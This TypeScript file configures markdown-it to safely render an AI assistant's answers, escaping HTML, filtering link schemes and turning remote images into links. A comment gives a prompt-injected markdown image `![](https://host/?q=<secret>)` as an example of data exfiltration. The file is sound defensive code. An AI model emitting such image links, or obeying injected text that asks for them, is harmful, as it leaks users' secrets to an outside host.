import MarkdownIt from 'markdown-it';

/**
 * Assistant answers are markdown. Raw HTML in them is escaped, never injected
 * (`html: false`), and markdown-it's own validateLink refuses javascript:,
 * vbscript:, file: and data: (except image) URLs, so the result is safe to set
 * as innerHTML. `breaks` keeps single newlines as line breaks, as answers
 * written line by line (the offline model's "Sources:" list) were shown before.
 */
const markdown = new MarkdownIt({ html: false, linkify: true, breaks: true });

// A link in an answer opens outside the console, with no handle back to it.
markdown.renderer.rules.link_open = (tokens, idx, options, _env, renderer) => {
  const token = tokens[idx]!;
  token.attrSet('target', '_blank');
  token.attrSet('rel', 'noopener noreferrer');
  return renderer.renderToken(tokens, idx, options);
};

/**
 * An image in an answer is shown as a link, never loaded: the answer is the model's text, and a
 * prompt-injected `![](https://host/?q=<secret>)` would otherwise send data out the moment it renders.
 * Only an inline `data:` image (markdown-it lets through only data:image/gif, png, jpeg and webp)
 * is drawn, as it needs no request. The console's Content-Security-Policy refuses remote images too.
 */
const drawImage = markdown.renderer.rules.image!;
markdown.renderer.rules.image = (tokens, idx, options, env, renderer) => {
  const token = tokens[idx]!;
  const src = String(token.attrGet('src') ?? '');
  if (src.startsWith('data:')) return drawImage(tokens, idx, options, env, renderer);
  const alt = renderer.renderInlineAsText(token.children ?? [], options, env);
  const label = markdown.utils.escapeHtml(`image: ${alt || src}`);
  return `<a href="${markdown.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer" class="image-link">${label}</a>`;
};

/** HTML for one markdown message; a fence left open mid-stream runs to the end as a code block. */
export function renderMarkdown(source: string): string {
  return markdown.render(source);
}
